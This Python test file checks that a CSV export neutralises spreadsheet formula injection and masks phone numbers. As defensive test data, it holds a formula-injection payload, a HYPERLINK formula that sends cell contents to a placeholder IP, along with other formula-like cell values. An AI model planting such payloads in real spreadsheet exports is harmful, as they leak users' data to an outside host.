"""What goes into a spreadsheet is text, never a formula."""

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from list_desk import ListDesk, number
from sqlalchemy import true

from sync.station import look_ups
from sync.station.csv_export import harmless, write_csv


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_compute_becomes_text(begins: str) -> None:
    assert harmless(f"{begins}1+1") == f"'{begins}1+1"


@given(st.text())
def test_no_cell_begins_like_a_formula_and_none_loses_a_character(text: str) -> None:
    assert harmless(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert harmless(text).removeprefix("'").endswith(text.removeprefix("'"))


def exported(desk: ListDesk, **how: Any) -> list[dict[str, str]]:
    file = io.StringIO(newline="")
    with desk.store.read() as conn:
        written = write_csv(file, look_ups.everything(conn, desk.now, chosen=true(), **how))
    lines = list(csv.DictReader(io.StringIO(file.getvalue(), newline="")))
    assert len(lines) == written
    return lines


def test_the_list_is_exported_with_masked_numbers_and_no_formula(desk: ListDesk) -> None:
    hostile = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
    desk.listed(1, name=hostile, unit="+1", contact="-1", case_number="@SUM(A1)", guidance='\t=1,\n"2"')
    desk.pass_time(seconds=1)
    desk.propose(2)
    first, second = exported(desk)
    assert (first["name"], first["unit"], first["contact"]) == (f"'{hostile}", "'+1", "'-1")
    assert (first["case_number"], first["guidance"]) == ("'@SUM(A1)", '\'\t=1,\n"2"')
    assert (first["state"], second["state"]) == ("listed", "proposed")
    assert number(1) not in str(first)
    assert exported(desk, in_full=True)[0]["numbers"] == number(1)
